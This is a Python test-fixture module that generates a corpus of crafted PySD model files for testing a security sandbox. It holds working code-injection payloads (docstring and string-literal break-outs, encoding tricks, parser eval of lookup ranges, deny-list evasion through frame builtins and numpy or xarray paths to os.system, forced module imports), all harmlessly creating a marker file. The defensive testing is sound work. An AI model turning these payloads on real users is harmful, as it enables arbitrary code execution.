"""The model-file payload corpus: crafted models that make PySD 3.14 run code, and
benign look-alikes that must keep loading.

Every case is generated from a template as a function of a *marker* path: an
attack case's only side effect is to create that file, so a test can tell whether
code ran by looking for it (a file is also created when the code runs in a child
process, e.g. through ``os.system``). ``tests/security/test_payloads.py`` first
proves, with plain PySD in a subprocess (no sdkit), that every ``"attack"`` case
really creates its marker, and then that sdkit never lets it.

Where PySD runs model text as code
----------------------------------
PySD translates a model into a Python module (``ModelBuilder``) and imports it
(``pysd.load``). Text from the model file reaches that module in several places,
and PySD's Vensim parser even calls :func:`eval` on parts of the file:

* comments become a triple-quoted docstring (``\"\"\"`` ends it);
* the real name of a data variable, subscript range names, macro names, macro
  parameter names and unknown (quoted) function names are pasted into
  single-quoted literals (``TabData('%s')``, ``_subscript_dict['%s']``,
  ``Macro(..., '%s')``, ``{'%s': lambda: ...}``, ``not_implemented_function('%s')``);
* the string arguments of ``GET DIRECT/XLS CONSTANTS/DATA/LOOKUPS`` are pasted
  into ``r'%s'`` / ``'%s'`` (in equations the parser first ``eval``\\ s the Vensim
  string literal, so ``\\x27`` becomes a quote; in lookup definitions it does not,
  and a trailing backslash escapes the closing quote of ``r'...'``);
* the ``[...]`` range of a lookup definition and of ``WITH LOOKUP`` is passed to
  :func:`eval` by the *parser* itself (``LookupsVisitor.visit_regularLookup``,
  ``EquationVisitor.visit_lookup_with_def``): code runs while the file is being
  parsed, before any Python is generated.

Units are written with ``repr()`` by PySD 3.14 and are not injectable; they appear
only in the benign set.

Payload classes (:data:`CLASSES`)
---------------------------------
``encoding``
    Vensim ``{UTF-7}``, ``{GBK}``, ``{Shift_JIS}``, ``{big5}``, ``{gb18030}``,
    ``{cp932}`` and EBCDIC (``{cp037}``, ``{cp500}``) headers. PySD decodes the file
    with the header's codec, so a filter that reads the bytes as UTF-8 or Latin-1
    sees different text: UTF-7 spells ``\"\"\"`` as ``+ACIAIgAi-``; a multibyte lead
    byte followed by ``|`` is one CJK character to PySD but a record end to a
    byte-level splitter; EBCDIC moves every delimiter.
``strings``
    Vensim strings other than comments that reach PySD's source templates: quoted
    names used as functions (also in ``INITIAL TIME`` and stock initial values),
    data-variable names, subscript range names, and every string argument of the
    ``GET`` functions.
``xmile-text``
    XMILE/``.stmx`` ``<doc>`` text written with character references (``&#34;``,
    ``&#x22;``, ``&quot;``), in CDATA, under a namespace prefix (``<q:doc>``), or
    through an internal DTD entity; ``<eqn>`` with a quoted function name (also in
    ``<sim_specs>``); ``<dim>`` names.
``macro``
    Vensim ``:MACRO:`` sections, which PySD writes as separate modules: comments
    and function names inside a macro, macro names, macro parameter names, GET
    strings and lookup ranges in a macro.
``denylist-evasion``
    Expressions that create a file without any name or attribute a deny-list of
    "dangerous" names would catch: builtins reached through a generator's frame
    with a string subscript, ``Path``/``_root`` (imported by every generated
    module) writes, lambdas, walrus, ``map``, and modules reachable by attribute
    chains from ``np`` and ``xr`` (``np.f2py.subprocess``, ``np.lib._npyio_impl.os``,
    ``xr.core.indexes.pd.io.common.os``...). Delivered through the vectors above.
``translator-eval``
    Lookup ranges that PySD's Vensim parser evaluates: the code runs during
    ``VensimFile.parse()``; the "stealth" variants still yield a valid range, so
    the model translates and loads normally afterwards.
``module-import``
    Code made only of what PySD's own templates emit (``Macro``, ``Path``,
    ``_root.parent``, ``.joinpath``, a conditional expression), pasted through the
    two names PySD pastes raw (a data variable's name in ``TabData('%s')`` and a
    macro parameter's name in ``{'%s': lambda: ...}``): ``Macro(path)``
    imports any ``.py`` file, here a companion file beside the marker, which an
    audit of the generated modules never sees. (An attacker who ships a ``.py``
    with the model needs only a relative ``Path('helper.py')`` when the user runs
    sdkit in that folder: the ``-cwd`` cases; every test runs a case with the
    marker's folder as the current folder.)
``benign``
    Not attacks: variables named ``os``, ``sys``, ``eval``, ``open``...; quoted
    names with ``~`` and ``|``; comments with ``"``, ``\"\"\"``, ``\\``, code-like
    words; XMILE docs with quotes and CDATA; ordinary lookup ranges. They must load
    and keep their comment text verbatim.

``python payloads.py list`` prints the corpus; ``python payloads.py verify OUT.json
ROOT [ID...]`` (what the tests run in subprocesses) writes each case under ROOT,
parses, loads and runs it with plain PySD, and records where the marker appeared.
"""

from __future__ import annotations

import html
import json
import os
import shlex
import signal
import sys
import time
import warnings
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

__all__ = ["CLASSES", "PayloadCase", "CASES", "ATTACKS", "BENIGN", "BY_ID", "CLI_SUBSET",
           "MARKER_NAME", "verify_with_pysd"]

#: File name of the marker an attack creates (the folder is the test's tmp dir).
MARKER_NAME = "PWNED"

#: Payload classes and what each is about (see the module docstring).
CLASSES: dict[str, str] = {
    "encoding": "Vensim encoding header: PySD decodes with the header's codec",
    "strings": "Vensim names and GET strings pasted into PySD's source templates",
    "xmile-text": "XMILE/.stmx <doc> via references, CDATA, prefixes, entities; names",
    "macro": "Vensim macros (separate generated modules)",
    "denylist-evasion": "code that creates a file without any deny-listed name",
    "translator-eval": "lookup ranges that PySD's Vensim parser passes to eval()",
    "module-import": "allow-listed Macro()/Path() calls that import an unaudited .py file",
    "benign": "legitimate models that look suspicious",
}

Expected = Literal["attack", "benign"]
#: When plain PySD runs an attack: while parsing the file, when importing the
#: generated module, or when running the model.
Stage = Literal["parse", "load", "run", ""]


@dataclass(frozen=True)
class PayloadCase:
    """One model file of the corpus.

    Attributes
    ----------
    id : str
        Unique, stable identifier (used as the pytest id).
    klass : str
        Key of :data:`CLASSES`.
    suffix : str
        ``".mdl"``, ``".xmile"`` or ``".stmx"``.
    expected : str
        ``"attack"`` (plain PySD creates the marker) or ``"benign"``.
    stage : str
        For attacks, when plain PySD runs the code: ``"parse"``, ``"load"`` or
        ``"run"``; ``""`` for benign cases.
    build : callable
        Marker path (``str``) to the file's bytes.
    note : str
        What the case does.
    comments : tuple of (str, str)
        Benign cases: variable name and its exact expected comment.
    companions : callable, optional
        Marker path to extra files (name to bytes) written beside the marker: a
        Python file that an attack makes PySD import (class ``module-import``).
    plain_pysd_loads : bool
        Benign cases: whether plain PySD 3.14 can load the model at all (it cannot
        when a comment holds a triple quote: its docstring breaks).
    """

    id: str
    klass: str
    suffix: str
    expected: Expected
    stage: Stage
    build: Callable[[str], bytes]
    note: str = ""
    comments: tuple[tuple[str, str], ...] = ()
    plain_pysd_loads: bool = True
    companions: Callable[[str], dict[str, bytes]] | None = None

    def content(self, marker: str | Path) -> bytes:
        """The model file's bytes for this marker path."""
        return self.build(str(marker))

    def write(self, folder: Path, marker: str | Path | None = None) -> Path:
        """Write the model into ``folder`` (marker defaults to ``folder/PWNED``), and any
        companion files beside the marker."""
        folder.mkdir(parents=True, exist_ok=True)
        marker = folder / MARKER_NAME if marker is None else Path(marker)
        path = folder / f"model{self.suffix}"
        path.write_bytes(self.content(marker))
        if self.companions is not None:
            marker.parent.mkdir(parents=True, exist_ok=True)
            for name, data in self.companions(str(marker)).items():
                (marker.parent / name).write_bytes(data)
        return path


# --------------------------------------------------------------------------- literals
Lit = Callable[[str], str]


def lit(text: str) -> str:
    """A plain Python string literal (``repr``)."""
    return repr(text)


def dq(text: str) -> str:
    """A double-quoted Python string literal (for contexts that forbid ``'``)."""
    return json.dumps(text)


def blit(text: str) -> str:
    """A Python expression for ``text`` with no quotes, spaces, brackets or capitals.

    ``bytes((47,116,...,)).decode()``: survives PySD lower-casing names, turning
    spaces into underscores and the Vensim string grammar.
    """
    return "bytes((" + ",".join(str(b) for b in text.encode()) + ",)).decode()"


def touch(marker: str) -> str:
    """The shell command that creates the marker."""
    return "touch " + shlex.quote(marker)


# --------------------------------------------------------------------------- actions
#: Expressions that create the marker. Each takes the marker path and a literal
#: maker (:func:`lit`, :func:`dq` or :func:`blit`, whichever the slot allows).
#: ``Path`` and ``_root`` exist in every generated module; ``np`` where the model
#: needs numpy (``ABS``, a ``?`` limit), ``xr`` where it has subscripts; the Vensim
#: parser's own module (where lookup ranges are evaluated) has ``np`` too.
Action = Callable[[str, Lit], str]

ACTIONS: dict[str, Action] = {
    "os-system": lambda m, q: f"__import__({q('os')}).system({q(touch(m))})",
    "pathlib": lambda m, q: f"__import__({q('pathlib')}).Path({q(m)}).touch()",
    "open": lambda m, q: f"open({q(m)}, {q('w')}).close()",
    "gen-frame": lambda m, q: ("((x)for(x)in()).gi_frame.f_builtins"
                               f"[{q('__import__')}]({q('os')}).system({q(touch(m))})"),
    "gen-frame-get": lambda m, q: ("(x for x in ()).gi_frame.f_builtins"
                                   f".get({q('__import__')})({q('os')}).system({q(touch(m))})"),
    "gen-frame-exec": lambda m, q: (
        f"(x for x in ()).gi_frame.f_builtins[{q('ex')}+{q('ec')}]"
        f"({q('__import__(' + repr('os') + ').system(' + repr(touch(m)) + ')')})"),
    "path-touch": lambda m, q: f"Path({q(m)}).touch()",
    "path-write": lambda m, q: f"Path({q(m)}).write_text({q('x')})",
    "path-open": lambda m, q: f"Path({q(m)}).open({q('w')}).close()",
    "lambda": lambda m, q: f"(lambda p: p.touch())(Path({q(m)}))",
    "walrus": lambda m, q: f"(p := Path({q(m)})).touch()",
    "map": lambda m, q: f"[*map(Path.touch, [Path({q(m)})])]",
    "root-joinpath": lambda m, q: f"_root.joinpath({q(m)}).touch()",
    "np-savetxt": lambda m, q: f"np.savetxt({q(m)}, (0,))",
    "np-tofile": lambda m, q: f"np.zeros(1).tofile({q(m)})",
    "np-memmap": lambda m, q: f"np.lib.format.open_memmap({q(m)}, mode={q('w+')}, shape=(1,))",
    "np-f2py-subprocess": lambda m, q: f"np.f2py.subprocess.call(({q('touch')}, {q(m)}))",
    "np-lib-os": lambda m, q: f"np.lib._npyio_impl.os.system({q(touch(m))})",
    "xr-backends-os": lambda m, q: f"xr.backends.api.os.system({q(touch(m))})",
    "xr-pandas-os": lambda m, q: f"xr.core.indexes.pd.io.common.os.system({q(touch(m))})",
    "xr-to-netcdf": lambda m, q: f"xr.DataArray(0.0).to_netcdf({q(m)})",
}


def act(name: str, marker: str, q: Lit = lit) -> str:
    """The expression of action ``name`` for ``marker``."""
    return ACTIONS[name](marker, q)


# --------------------------------------------------------------------------- Vensim
def rec(lhs: str, units: str = "Dmnl", comment: str = "") -> str:
    """One Vensim record: equation, units, comment."""
    return f"{lhs}\n\t~\t{units}\n\t~\t{comment}\n\t|\n\n"


_LEVER = rec("lever = 1", "Dmnl [0,2]", "A constant that scenarios and specs may vary.")
_OUT = rec("output = lever * 2", "Dmnl", "Twice the lever.")
_CONTROL = "".join(rec(f"{name} = {value}", "Year") for name, value in
                   (("FINAL TIME", 2), ("INITIAL TIME", 0), ("SAVEPER", 1), ("TIME STEP", 1)))
_SUBSCRIPTED = (rec("region: north, south", "", "")
                + rec("by region[region] = 1, 2", "Dmnl", "A subscripted constant."))


def mdl(*records: str, header: str = "{UTF-8}", control: str = _CONTROL) -> str:
    """A small Vensim model: ``records``, a lever, an output and the control section."""
    return f"{header}\n" + "".join(records) + _LEVER + _OUT + control


def vensim(text: str) -> bytes:
    """UTF-8 bytes of a Vensim model."""
    return text.encode("utf-8")


def docstring_breakout(code: str) -> str:
    """Comment text that closes PySD's docstring, runs ``code`` and reopens it."""
    return f'Harmless note """ + str({code}) + """ end.'


def in_squotes(code: str) -> str:
    """Text pasted into ``'...'`` that closes the literal, runs ``code``, reopens it."""
    return f"'+str({code})+'"


def x27(text: str) -> str:
    """A Vensim string body that PySD's ``eval`` turns into ``text`` (``'`` -> ``\\x27``)."""
    return text.replace("\\", "\\x5c").replace("'", "\\x27")


# --------------------------------------------------------------------------- XMILE
XMILE_NS = "http://docs.oasis-open.org/xmile/ns/XMILE/v1.0"


def xmile(variables: str, *, dims: str = "", prolog: str = "", root_extra: str = "",
          start: str = "0") -> str:
    """A small XMILE model with ``variables``, a lever and an output (``ABS`` imports numpy)."""
    return f"""<?xml version="1.0" encoding="utf-8"?>
{prolog}<xmile version="1.0" xmlns="{XMILE_NS}"{root_extra}>
<header><vendor>sdkit tests</vendor><product version="1.0">payloads</product></header>
<sim_specs method="Euler" time_units="Year"><start>{start}</start><stop>2</stop><dt>1</dt>
</sim_specs>
{dims}<model><variables>
<aux name="lever"><eqn>1</eqn><range min="0" max="2"/><doc>A lever.</doc></aux>
<aux name="output"><eqn>ABS(lever) * 2</eqn><doc>Twice the lever.</doc></aux>
{variables}
</variables></model></xmile>
"""


_XDIMS = '<dimensions><dim name="region"><elem name="north"/><elem name="south"/></dim>' \
    '</dimensions>\n'
_XARRAY = '<aux name="by region"><dimensions><dim name="region"/></dimensions><eqn>1</eqn>' \
    '</aux>'


def xdoc_text(code: str, style: str) -> str:
    """``<doc>`` content that reaches PySD as a docstring break-out, in a given spelling."""
    body = f" + str({code}) + "
    if style == "ref34":
        return f"Note &#34;&#34;&#34;{html.escape(body, quote=False)}&#34;&#34;&#34; end."
    if style == "refx22":
        return f"Note &#x22;&#x22;&#x22;{html.escape(body, quote=False)}&#x22;&#x22;&#x22; end."
    if style == "quot":
        return f"Note {html.escape(chr(34) * 3 + body + chr(34) * 3, quote=True)} end."
    if style == "cdata":
        return f'Note <![CDATA["""{body}"""]]> end.'
    if style in ("literal", "prefix"):
        return f'Note {html.escape(chr(34) * 3 + body + chr(34) * 3, quote=False)} end.'
    if style == "entity":
        return f"Note &q;{html.escape(body, quote=False)}&q; end."
    raise ValueError(style)


def xdoc_model(code: str, style: str, kind: str = "aux", arrays: bool = False) -> str:
    """An XMILE model whose variable ``x`` (of ``kind``) carries the doc payload."""
    text = xdoc_text(code, style)
    doc = f"<q:doc>{text}</q:doc>" if style == "prefix" else f"<doc>{text}</doc>"
    if kind == "stock":
        var = f'<stock name="x"><eqn>0</eqn><inflow>inflow</inflow>{doc}</stock>\n' \
            '<flow name="inflow"><eqn>lever</eqn></flow>'
    elif kind == "flow":
        var = f'<stock name="s"><eqn>0</eqn><inflow>x</inflow></stock>\n' \
            f'<flow name="x"><eqn>lever</eqn>{doc}</flow>'
    elif kind == "gf":
        var = f'<gf name="x"><xscale min="0" max="1"/><ypts>0,1</ypts>{doc}</gf>\n' \
            '<aux name="y"><eqn>x(TIME)</eqn></aux>'
    else:
        var = f'<aux name="x"><eqn>lever</eqn>{doc}</aux>'
    if arrays:
        var += "\n" + _XARRAY
    prolog = "<!DOCTYPE xmile [<!ENTITY q '\"\"\"'>]>\n" if style == "entity" else ""
    root_extra = f' xmlns:q="{XMILE_NS}"' if style == "prefix" else ""
    return xmile(var, dims=_XDIMS if arrays else "", prolog=prolog, root_extra=root_extra)


# --------------------------------------------------------------------------- cases
CASES: list[PayloadCase] = []


def _add(case_id: str, klass: str, suffix: str, stage: Stage, build: Callable[[str], bytes],
         note: str, companions: Callable[[str], dict[str, bytes]] | None = None) -> None:
    CASES.append(PayloadCase(case_id, klass, suffix, "attack", stage, build, note,
                             companions=companions))


def _benign(case_id: str, suffix: str, text: str, comments: Iterable[tuple[str, str]],
            note: str, plain_pysd_loads: bool = True) -> None:
    data = text.encode("utf-8")
    CASES.append(PayloadCase(case_id, "benign", suffix, "benign", "", lambda _m: data, note,
                             tuple(comments), plain_pysd_loads))


def _utf7_docstring(code: str, *, header: str = "{UTF-7}", whole: bool = False) -> bytes:
    """A Vensim model in UTF-7 whose comment breaks out of the docstring."""
    comment = docstring_breakout(code)
    text = mdl(rec("x = lever", "Dmnl [0,?]", "@@COMMENT@@"), header="")
    head, tail = text.split("@@COMMENT@@")
    if whole:  # every character of the comment base64-encoded
        import base64

        raw = base64.b64encode(comment.encode("utf-16-be")).rstrip(b"=")
        encoded = b"+" + raw + b"-"
    else:  # readable, with only the quotes (and literal plus signs) encoded
        encoded = comment.replace("+", "+-").replace('"', "+ACI-").encode("ascii")
    return (f"{header}\n".encode() + head.replace("+", "+-").encode("ascii") + encoded
            + tail.replace("+", "+-").encode("ascii"))


def _hidden_pipe(code: str, codec: str, lead: bytes) -> bytes:
    """A comment whose triple quote follows a multibyte character ending in byte ``|``."""
    comment = "Note @@" + docstring_breakout(code).removeprefix("Harmless note")
    text = mdl(rec("x = lever", "Dmnl", comment), header="{" + codec + "}")
    head, tail = text.split("@@")
    return head.encode("ascii") + lead + b"|" + tail.encode("ascii")


def _ebcdic(code: str, codec: str) -> bytes:
    """A Vensim model in EBCDIC: the header line is ASCII, the rest ``codec``."""
    text = "~|\n" + mdl(rec("x = lever", "Dmnl", docstring_breakout(code)), header="")
    return b"{" + codec.encode() + b"}\n" + text.encode(codec)


def _encoding_cases() -> None:
    k = "encoding"
    _add("enc-utf7-quotes-path", k, ".mdl", "run",
         lambda m: _utf7_docstring(act("path-touch", m)),
         "{UTF-7}: the docstring quotes are +ACI-; Path() writes the marker")
    _add("enc-utf7-quotes-os", k, ".mdl", "run",
         lambda m: _utf7_docstring(act("os-system", m)), "{UTF-7} with os.system")
    _add("enc-utf7-base64-comment", k, ".mdl", "run",
         lambda m: _utf7_docstring(act("path-write", m), whole=True),
         "{UTF-7}: the whole comment is one base64 run")
    _add("enc-utf7-alias-utf7", k, ".mdl", "run",
         lambda m: _utf7_docstring(act("gen-frame", m), header="{utf7}"),
         "{utf7} alias; builtins through a generator frame")
    for codec, lead, action in (("GBK", b"\x81", "path-touch"), ("Shift_JIS", b"\x81", "lambda"),
                                ("big5", b"\xa4", "walrus"), ("gb18030", b"\x81", "os-system"),
                                ("cp932", b"\x81", "root-joinpath")):
        _add(f"enc-{codec.lower()}-hidden-pipe", k, ".mdl", "run",
             lambda m, c=codec, b=lead, a=action: _hidden_pipe(act(a, m), c, b),
             f"{{{codec}}}: a lead byte turns the following '|' into one character")
    for codec, action in (("cp037", "path-touch"), ("cp500", "os-system")):
        _add(f"enc-ebcdic-{codec}", k, ".mdl", "run",
             lambda m, c=codec, a=action: _ebcdic(act(a, m), c),
             f"{{{codec}}}: EBCDIC body, no ASCII delimiter is what it seems")


def _fn_name(code: str) -> str:
    """A quoted Vensim name that PySD writes into not_implemented_function('%s')."""
    return f'"fn{in_squotes(code)}"'


def _strings_cases() -> None:
    k = "strings"
    _add("str-fn-name-aux", k, ".mdl", "run",
         lambda m: vensim(mdl(rec(f"x = {_fn_name(act('os-system', m, blit))}(lever)"))),
         "quoted name used as a function: not_implemented_function('%s')")
    _add("str-fn-name-gen-frame", k, ".mdl", "run",
         lambda m: vensim(mdl(rec(f"x = {_fn_name(act('gen-frame', m, blit))}(lever)"))),
         "quoted function name; builtins through a generator frame, no quotes at all")
    _add("str-fn-name-stock-initial", k, ".mdl", "load",
         lambda m: vensim(mdl(rec(f"s = INTEG(lever, {_fn_name(act('os-system', m, blit))}(0))"))),
         "quoted function name in a stock's initial value")
    _add("str-fn-name-initial-time", k, ".mdl", "load",
         lambda m: vensim(mdl(control="".join(
             rec(f"{n} = {v}", "Year") for n, v in
             (("FINAL TIME", 2), ("INITIAL TIME", _fn_name(act("os-system", m, blit)) + "(0)"),
              ("SAVEPER", 1), ("TIME STEP", 1))))),
         "quoted function name as INITIAL TIME (evaluated when the model is set up)")
    _add("str-data-name-path", k, ".mdl", "load",
         lambda m: vensim(mdl(rec(f'"series{in_squotes(act("path-touch", m))}" :INTERPOLATE:'))),
         "data variable name pasted into TabData('%s'); Path() at import")
    _add("str-data-name-os", k, ".mdl", "load",
         lambda m: vensim(mdl(rec(f'"series{in_squotes(act("os-system", m))}" :RAW:'))),
         "data variable name with os.system")
    _add("str-subscript-range-name", k, ".mdl", "run",
         lambda m: vensim(mdl(
             rec(f'"dim{in_squotes(act("gen-frame-exec", m, blit))}": d1, d2', "", ""),
             rec(f'x["dim{in_squotes(act("gen-frame-exec", m, blit))}"] = 1, 2'))),
         "subscript range name pasted into _subscript_dict['%s']")
    _add("str-subscript-range-name-path", k, ".mdl", "run",
         lambda m: vensim(mdl(
             rec(f'"dim{in_squotes(act("path-open", m))}": d1, d2', "", ""),
             rec(f'x["dim{in_squotes(act("path-open", m))}"] = 1, 2'))),
         "subscript range name; Path().open()")
    gets = (
        ("gdc-file", "x = GET DIRECT CONSTANTS('a.csv@@', ',', 'B2')", "path-touch"),
        ("gdc-tab", "x = GET DIRECT CONSTANTS('a.csv', ',@@', 'B2')", "os-system"),
        ("gdc-cell", "x = GET DIRECT CONSTANTS('a.csv', ',', 'B2@@')", "pathlib"),
        ("gxc-tab", "x = GET XLS CONSTANTS('a.xlsx', 'Sheet1@@', 'B2')", "open"),
        ("gdd-file", "x := GET DIRECT DATA('a.csv@@', ',', 'A', 'B2')", "path-write"),
        ("gxd-cell", "x := GET XLS DATA('a.xlsx', 'Sheet1', 'A', 'B2@@')", "os-system"),
    )
    for name, template, action in gets:
        _add(f"str-{name}", k, ".mdl", "load",
             lambda m, t=template, a=action: vensim(mdl(rec(
                 t.replace("@@", x27(in_squotes(act(a, m, dq))))))),
             f"{name}: in a GET string \\x27 becomes a quote when PySD evals the literal")
    for name, func, action in (("gdl", "GET DIRECT LOOKUPS", "os-system"),
                               ("gxl", "GET XLS LOOKUPS", "path-touch")):
        _add(f"str-{name}-backslash", k, ".mdl", "load",
             lambda m, f=func, a=action: vensim(mdl(
                 rec(f"tbl( {f}('a.csv\\', '+str({act(a, m, dq)})+', '+', ')#'))"),
                 rec("y = tbl(Time)"))),
             f"{func} in a lookup definition: a trailing backslash escapes r'...''s quote")


def _xmile_cases() -> None:
    k = "xmile-text"
    docs = (
        ("ref34", "aux", "path-touch", ".xmile"), ("ref34", "aux", "os-system", ".stmx"),
        ("refx22", "stock", "path-write", ".xmile"), ("refx22", "aux", "lambda", ".stmx"),
        ("quot", "aux", "os-system", ".xmile"), ("cdata", "flow", "os-system", ".xmile"),
        ("cdata", "aux", "path-touch", ".stmx"), ("prefix", "aux", "path-touch", ".xmile"),
        ("prefix", "gf", "walrus", ".stmx"), ("entity", "aux", "os-system", ".xmile"),
        ("literal", "gf", "os-system", ".xmile"),
    )
    for style, kind, action, suffix in docs:
        _add(f"xml-doc-{style}-{kind}-{action}{suffix.replace('.', '-')}", k, suffix, "run",
             lambda m, s=style, v=kind, a=action: xdoc_model(act(a, m), s, v).encode(),
             f"<doc> of a {kind} spelled as {style}")
    for suffix in (".xmile", ".stmx"):
        tag = suffix.replace(".", "")
        _add(f"xml-eqn-fn-name-{tag}", k, suffix, "run",
             lambda m: xmile('<aux name="x"><eqn>'
                             f'"fn{in_squotes(act("os-system", m, blit))}"(lever)</eqn></aux>'
                             ).encode(),
             "<eqn> calls a quoted unknown function: not_implemented_function('%s')")
        _add(f"xml-dim-name-{tag}", k, suffix, "run",
             lambda m: xmile(
                 '<aux name="x"><dimensions><dim name="@@"/></dimensions><eqn>1</eqn></aux>',
                 dims='<dimensions><dim name="@@"><elem name="a1"/><elem name="a2"/></dim>'
                      '</dimensions>\n').replace(
                     "@@", html.escape("d" + in_squotes(act("path-touch", m)), quote=True)
                 ).encode(),
             "<dim> name pasted into _subscript_dict['%s']")
    _add("xml-sim-specs-start-fn-name", k, ".xmile", "load",
         lambda m: xmile("", start=f'"fn{in_squotes(act("gen-frame", m, blit))}"(0)').encode(),
         "<sim_specs><start> calls a quoted unknown function")
    _add("xml-stock-initial-fn-name", k, ".stmx", "load",
         lambda m: xmile('<stock name="s"><eqn>'
                         f'"fn{in_squotes(act("os-system", m, blit))}"(0)</eqn>'
                         '<inflow>f</inflow></stock><flow name="f"><eqn>lever</eqn></flow>'
                         ).encode(),
         "a stock's initial value calls a quoted unknown function")


_MACRO = """:MACRO: {name}({param})
{name} = {param} * 2 + {extra}
\t~\tDmnl
\t~\t{comment}
\t|

{records}:END OF MACRO:
"""


def macro(name: str = "DOUBLE", param: str = "input", extra: str = "0",
          comment: str = "Doubles its input.", records: str = "",
          call: str | None = None) -> str:
    """A Vensim model with one macro and a variable that calls it."""
    text = _MACRO.format(name=name, param=param, extra=extra, comment=comment, records=records)
    return mdl(rec(f"x = {call or name}(lever)"), header="{UTF-8}\n" + text)


def _macro_cases() -> None:
    k = "macro"
    _add("mac-doc-os", k, ".mdl", "run",
         lambda m: vensim(macro(comment=docstring_breakout(act("os-system", m)))),
         "comment of the macro's output: docstring break-out in the macro module")
    _add("mac-doc-gen-frame-get", k, ".mdl", "run",
         lambda m: vensim(macro(comment=docstring_breakout(act("gen-frame-get", m)))),
         "macro comment; builtins through frame.f_builtins.get")
    _add("mac-inner-var-doc", k, ".mdl", "run",
         lambda m: vensim(macro(extra="helper", records=rec(
             "helper = 1", "Dmnl", docstring_breakout(act("path-touch", m))))),
         "comment of a helper variable inside the macro")
    _add("mac-name", k, ".mdl", "load",
         lambda m: vensim(macro(name=f'"DBL{in_squotes(act("os-system", m, blit))}"')),
         "quoted macro name pasted into Macro(..., '%s')")
    _add("mac-param-name", k, ".mdl", "load",
         lambda m: vensim(macro(param=f'"in{in_squotes(act("os-system", m))}"')),
         "macro parameter name pasted into {'%s': lambda: ...}")
    _add("mac-fn-name", k, ".mdl", "run",
         lambda m: vensim(macro(extra=f"{_fn_name(act('os-system', m, blit))}(1)")),
         "quoted unknown function called inside the macro")
    _add("mac-gdc-file", k, ".mdl", "load",
         lambda m: vensim(macro(extra="ext", records=rec(
             f"ext = GET DIRECT CONSTANTS('a.csv{x27(in_squotes(act('path-touch', m, dq)))}', "
             "',', 'B2')"))),
         "GET DIRECT CONSTANTS string inside the macro")
    _add("mac-lookup-range", k, ".mdl", "parse",
         lambda m: vensim(macro(extra="tbl(1)", records=rec(
             f"tbl([(0*len(str({act('os-system', m)})),0),(1,1)],(0,0),(1,1))"))),
         "lookup range evaluated by the parser, inside the macro")


def _evasion_cases() -> None:
    k = "denylist-evasion"
    for action in ("gen-frame", "gen-frame-get", "gen-frame-exec", "path-touch", "path-write",
                   "path-open", "lambda", "walrus", "map", "root-joinpath", "np-savetxt",
                   "np-tofile", "np-memmap", "np-f2py-subprocess", "np-lib-os",
                   "xr-backends-os", "xr-pandas-os", "xr-to-netcdf"):
        _add(f"eva-{action}", k, ".xmile", "run",
             lambda m, a=action: xdoc_model(act(a, m), "ref34", arrays=True).encode(),
             f"{action} through an XMILE <doc> written with &#34;")
    _add("eva-np-savetxt-vensim-utf7", k, ".mdl", "run",
         lambda m: _utf7_docstring(act("np-savetxt", m)),
         "np.savetxt through a UTF-7 Vensim comment (limits [0,?] import numpy)")
    _add("eva-path-data-name", k, ".mdl", "load",
         lambda m: vensim(mdl(rec(f'"s{in_squotes(act("walrus", m))}" :INTERPOLATE:'))),
         "walrus + Path through a data variable name")


def _translator_cases() -> None:
    k = "translator-eval"
    _add("tev-lookup-range", k, ".mdl", "parse",
         lambda m: vensim(mdl(rec(f"tbl([{act('os-system', m)}],(0,0),(1,1))"),
                              rec("y = tbl(Time)"))),
         "the [...] range of a lookup definition is eval()ed while parsing")
    _add("tev-lookup-range-stealth", k, ".mdl", "parse",
         lambda m: vensim(mdl(rec(f"tbl([(0*len(str({act('os-system', m)})),0),(1,1)],"
                                  "(0,0),(1,1))"), rec("y = tbl(Time)"))),
         "same, still a valid range: the model then translates and loads normally")
    _add("tev-with-lookup-range", k, ".mdl", "parse",
         lambda m: vensim(mdl(rec(f"y = WITH LOOKUP(Time, ([{act('pathlib', m)}],(0,0),(1,1)))"))),
         "the range of WITH LOOKUP is eval()ed while parsing")
    _add("tev-with-lookup-range-stealth", k, ".mdl", "parse",
         lambda m: vensim(mdl(rec("y = WITH LOOKUP(Time, ([(0*len(str("
                                  f"{act('open', m)})),0),(1,1)],(0,0),(1,1)))"))),
         "WITH LOOKUP range, still valid afterwards")
    _add("tev-lookup-range-np", k, ".mdl", "parse",
         lambda m: vensim(mdl(rec(f"tbl([{act('np-savetxt', m)}],(0,0),(1,1))"),
                              rec("y = tbl(Time)"))),
         "the parser's module has numpy as np: np.savetxt")
    _add("tev-lookup-range-gen-frame-get", k, ".mdl", "parse",
         lambda m: vensim(mdl(rec(f"tbl([(0*len(str({act('gen-frame-get', m)})),0),(1,1)],"
                                  "(0,0),(1,1))"), rec("y = tbl(Time)"))),
         "range without brackets inside: builtins through frame.f_builtins.get")


HELPER_NAME = "helper.py"


def _helper(marker: str) -> dict[str, bytes]:
    """The companion module: importing it creates the marker."""
    return {HELPER_NAME: f"import pathlib\npathlib.Path({marker!r}).touch()\n".encode()}


def _helper_by_path(marker: str) -> str:
    """``Path('/abs/helper.py')``."""
    return f"Path({str(Path(marker).with_name(HELPER_NAME))!r})"


def _helper_by_parents(marker: str) -> str:
    """The helper reached from ``_root`` with ``.parent`` and one ``.joinpath`` per part
    (no slash, no ``..``, nothing but the vocabulary of PySD's templates)."""
    parts = Path(marker).with_name(HELPER_NAME).parts[1:]
    return "_root" + ".parent" * 48 + "".join(f".joinpath({p!r})" for p in parts)


def _helper_in_cwd(marker: str) -> str:
    """``Path('helper.py')``: relative, so the file in the current folder (the tests
    run each case with the marker's folder as the current folder)."""
    return f"Path({HELPER_NAME!r})"


def _import_through(path_expr: str) -> str:
    """Text for a raw ``'%s'`` slot: import the helper, keep the string valid."""
    return f"x'+('' if Macro({path_expr}) else '')+'"


def _module_import_cases() -> None:
    k = "module-import"
    for how, path_expr in (("path", _helper_by_path), ("root-parents", _helper_by_parents),
                           ("cwd", _helper_in_cwd)):
        _add(f"imp-data-name-{how}", k, ".mdl", "load",
             lambda m, e=path_expr: vensim(macro(records="").replace(
                 "x = DOUBLE(lever)", "x = DOUBLE(lever)\n\t~\tDmnl\n\t~\t|\n\n"
                 f'"{_import_through(e(m))}" :INTERPOLATE:')),
             f"data variable name in TabData('%s') -> Macro({how} to a .py file)",
             companions=_helper)
        _add(f"imp-macro-param-{how}", k, ".mdl", "load",
             lambda m, e=path_expr: vensim(macro(param=f'"{_import_through(e(m))}"')),
             f"macro parameter name in {{'%s': ...}} -> Macro({how} to a .py file)",
             companions=_helper)


# Benign: names a deny-list would flag, and free text with quotes and backslashes.
